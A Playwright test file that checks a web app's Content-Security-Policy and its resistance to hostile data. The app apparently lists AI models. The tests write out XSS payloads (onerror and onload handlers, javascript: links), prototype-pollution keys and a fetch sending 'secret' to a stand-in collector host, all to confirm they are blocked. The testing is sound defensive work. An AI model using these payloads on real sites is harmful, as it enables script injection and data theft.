import { createHash } from 'node:crypto'
import type { Page, Route } from '@playwright/test'
import {
  expect,
  gridOf,
  headerOf,
  open,
  readRows,
  rowOf,
  searchOf,
  settled,
  statusOf,
  storedFile,
  test,
} from './support'

const directives = (policy: string) =>
  new Map(
    policy.split(';').map((part) => {
      const [name = '', ...values] = part.trim().split(/\s+/)
      return [name, values.join(' ')] as const
    }),
  )

const digestOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

test('the content policy allows what the build drew, no eval and no foreign code', async ({
  page,
}) => {
  const response = (await page.goto('/'))!
  const drawn = await response.text()
  const header = directives(response.headers()['content-security-policy']!)
  const meta = directives(
    (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'))!,
  )
  expect(header.get('default-src')).toBe("'none'")
  for (const tag of ['script', 'style']) {
    // The one script and the one sheet that the page itself holds, by their digests.
    const [, text] = new RegExp(`<${tag}>([^]*?)</${tag}>`).exec(drawn)!
    expect(header.get(`${tag}-src`)).toBe(`'self' ${digestOf(text!)}`)
  }
  expect(header.get('font-src')).toBe("'self'")
  for (const name of ['base-uri', 'form-action', 'frame-ancestors'])
    expect(header.get(name), name).toBe("'none'")
  expect([...header.values()].join(' ')).not.toMatch(/unsafe|\*|\bhttps?:(?!\/\/)/)
  // The page of a static host is held by the same policy; only a header can say who may frame it.
  header.delete('frame-ancestors')
  expect(meta).toEqual(header)
})

test('a page that nothing is drawn for allows no inline script at all', async ({ request }) => {
  const policy = (await request.get('/charts')).headers()['content-security-policy']!
  for (const name of ['script-src', 'style-src'])
    expect(directives(policy).get(name), name).toBe("'self'")
})

/** What the policy refused since the page was opened. */
async function refusals(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(globalThis, { refusals: seen })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      seen.push(effectiveDirective),
    )
  })
  return () => page.evaluate(() => (globalThis as unknown as { refusals: string[] }).refusals)
}

const ran = (page: Page) => page.evaluate(() => 'ran' in globalThis)

test('script that gets into the page does not run', async ({ page, watch }) => {
  watch.expected.push(/Content Security Policy/)
  const refused = await refusals(page)
  await open(page)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'globalThis.ran = true'
    document.body.append(script)
  })
  await expect.poll(refused).toContain('script-src-elem')
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="data:," onerror="globalThis.ran = true">',
    )
  })
  await expect.poll(refused).toContain('script-src-attr')
  // Later, because what a test evaluates may itself evaluate.
  await page.evaluate(() => setTimeout(() => new Function('globalThis.ran = true')()))
  await expect.poll(refused).toContain('script-src')
  expect(await ran(page)).toBe(false)
})

test('nothing can be sent to a third party', async ({ page, watch }) => {
  // A refused request for an image is reported as asked for, though it never leaves.
  watch.expected.push(/Content Security Policy/, /^request .*collector\.example\/x\.png$/)
  const refused = await refusals(page)
  await open(page)
  const answer = await page.evaluate(() =>
    fetch('https://collector.example/?q=secret').then(
      () => 'sent',
      () => 'refused',
    ),
  )
  expect(answer).toBe('refused')
  await expect.poll(refused).toContain('connect-src')
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="https://collector.example/x.png">')
  })
  await expect.poll(refused).toContain('img-src')
})

const MAKER = '<script>globalThis.ran = true</script>'
const NAMES = [
  '<img src=x onerror="globalThis.ran = true">',
  '"><svg onload=globalThis.ran=true>',
  'javascript:globalThis.ran=true',
  '\u202Egnp.exe',
  'W'.repeat(10_000),
  '__proto__',
]
const BAD_LINKS = [
  'javascript:globalThis.ran=true',
  'http://collector.example/',
  'data:text/html,x',
]
/** Also well formed where columns stand. */
const KEYS =
  '"__proto__": {"values": [], "polluted": true},' +
  '"constructor": {"values": [], "prototype": {"polluted": true}},'

interface Table {
  readonly size: number
  readonly ids: string[]
  readonly origins: string[][]
  readonly columns: Readonly<
    Record<string, { rows?: number[]; values: number[]; dictionary?: string[]; origin: unknown }>
  >
}

/** The first rows get hostile names, one hostile maker and ids that are keys of every object. */
function poisonTable(table: Table): void {
  table.ids[0] = '__proto__/constructor'
  table.origins.push(['__proto__', '2026-01-01', 'stated'])
  for (const [column, texts] of [
    ['name', NAMES],
    ['maker', NAMES.map(() => MAKER)],
  ] as const) {
    const { size } = table
    const { values, dictionary, rows } = table.columns[column]!
    if (!dictionary || rows || values.length !== size) throw new Error(`${column} is not all known`)
    values.splice(0, texts.length, ...texts.map((_, at) => dictionary.length + at))
    dictionary.push(...texts)
    table.columns[column]!.origin = values.map((_, row) =>
      row < texts.length ? table.origins.length - 1 : 1,
    )
  }
}

const isLink = (text: unknown) => typeof text === 'string' && text.startsWith('https://')
const badLink = (_: unknown, at: number) => BAD_LINKS[at % BAD_LINKS.length]!

/** The stored snapshot, with the worst that a source could put into it. */
async function poison(route: Route): Promise<void> {
  const file = new URL(route.request().url()).pathname.split('/').at(-1)!
  const body = JSON.parse(storedFile(file))
  if (file === 'models.json') poisonTable(body as Table)
  if (file === 'manifest.json')
    for (const [at, source] of body.sources.entries()) {
      source.label = `<b>${source.label}</b>`
      source.home = badLink(source, at)
      source.terms.url = badLink(source, at + 1)
    }
  if (file === 'details.json') {
    const { facts } = body
    facts.urls = facts.urls.map(badLink)
    for (const column of ['name', 'maker']) facts.usual[`__proto__ ${column}`] = [0, 1]
    facts.notes = facts.notes.map(
      (note: string) => note && `<i onclick="globalThis.ran=true">${note}`,
    )
  }
  if (file === 'runs.json' || file === 'offers.json')
    body.pool = body.pool.map((text: string, at: number) =>
      isLink(text) ? badLink(text, at) : text,
    )
  const text = JSON.stringify(body)
    .replace('{', `{${KEYS}`)
    .replace('"columns":{', `"columns":{${KEYS}`)
    .replace('"usual":{', '"usual":{"__proto__":[0,0],"constructor":[0,0],')
  await route.fulfill({ body: text, contentType: 'application/json' })
}

/** What must not be on the page whatever a source says. */
function intrusions(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const root = document.getElementById('root')!
    const found = [...root.querySelectorAll('script, img, b[onclick], i, iframe, svg[onload]')].map(
      ({ outerHTML }) => outerHTML,
    )
    for (const link of root.querySelectorAll<HTMLAnchorElement>('a[href]'))
      if (link.origin !== location.origin && link.protocol !== 'https:') found.push(link.href)
    if ('ran' in globalThis) found.push('a script ran')
    if ('polluted' in {}) found.push('the prototype of objects is polluted')
    const { scrollWidth, clientWidth } = document.documentElement
    if (scrollWidth > clientWidth) found.push(`the page is ${scrollWidth} px wide`)
    return found
  })
}

test.describe('with hostile content in the snapshot', () => {
  test.beforeEach(({ page }) => page.route('**/snapshot/*.json', poison))
  const THEIRS = `/?maker=${encodeURIComponent(MAKER)}`

  test('the table shows text as text, and keeps its shape', async ({ page }) => {
    await open(page, THEIRS)
    await expect(statusOf(page)).toHaveText(new RegExp(`^${NAMES.length} of `))
    for (const name of NAMES)
      await expect(rowOf(page, name).getByRole('gridcell', { name: MAKER })).toBeVisible()
    const head = (await headerOf(page, 'Model').boundingBox())!
    const height = (await gridOf(page).getByRole('row').nth(1).boundingBox())!.height
    for (const name of NAMES) {
      const cell = (await rowOf(page, name).getByRole('rowheader').boundingBox())!
      expect([cell.x, cell.width], name.slice(0, 20)).toEqual([head.x, head.width])
      expect(cell.height, name.slice(0, 20)).toBeLessThanOrEqual(height)
    }
    expect(await intrusions(page)).toEqual([])

    await searchOf(page).fill('<img src=x')
    await settled(page)
    expect((await readRows(page)).map(({ name }) => name)).toContain(NAMES[0])
    expect(await intrusions(page)).toEqual([])
  })

  test('facts and comparison follow no link but https', async ({ page }) => {
    await open(page, THEIRS)
    await rowOf(page, NAMES[0]!).getByRole('gridcell', { name: MAKER }).click()
    const facts = page.getByRole('dialog', { name: 'Facts: Maker' })
    await expect(facts.getByText('__proto__')).toBeVisible()
    await expect(facts.getByRole('link')).toHaveText([
      'All facts of this model',
      'Maker in the glossary',
    ])
    expect(await intrusions(page)).toEqual([])
    await page.keyboard.press('Escape')

    for (const name of NAMES.slice(0, 2)) await rowOf(page, name).getByRole('checkbox').check()
    await page.getByRole('button', { name: 'Compare' }).click()
    const comparison = page.getByRole('region', { name: 'Comparison' })
    await expect(comparison.getByRole('link', { name: NAMES[0]! })).toBeVisible()
    expect(await intrusions(page)).toEqual([])
  })

  test('the pages of models and of sources do so too', async ({ page }) => {
    await open(page, THEIRS)
    await rowOf(page, NAMES[0]!).getByRole('link').click()
    await expect(page).toHaveURL(/\/model\/__proto__\/constructor$/)
    await expect(page.getByRole('heading', { level: 1 })).toContainText(NAMES[0]!)
    await expect(page.getByRole('heading', { name: 'Every fact' })).toBeVisible()
    expect(await intrusions(page)).toEqual([])

    await page.goto('/model/deepseek-ai/deepseek-r1')
    await expect(page.getByRole('heading', { name: 'Every fact' })).toBeVisible()
    expect(await intrusions(page)).toEqual([])

    await page.goto(`/model/${await longest(page)}`)
    await expect(page.getByRole('heading', { level: 1 })).toContainText('WWW')
    expect(await intrusions(page)).toEqual([])

    await page.goto('/sources')
    await expect(page.getByText('<b>LiteLLM price map</b>', { exact: true })).toBeVisible()
    await page.getByRole('button', { name: 'Details of <b>LiteLLM price map</b>' }).click()
    expect(await intrusions(page)).toEqual([])
  })
})

async function longest(page: Page): Promise<string> {
  await open(page, '/?q=WWWWWWWWWW')
  const [row] = await readRows(page)
  return row!.id
}
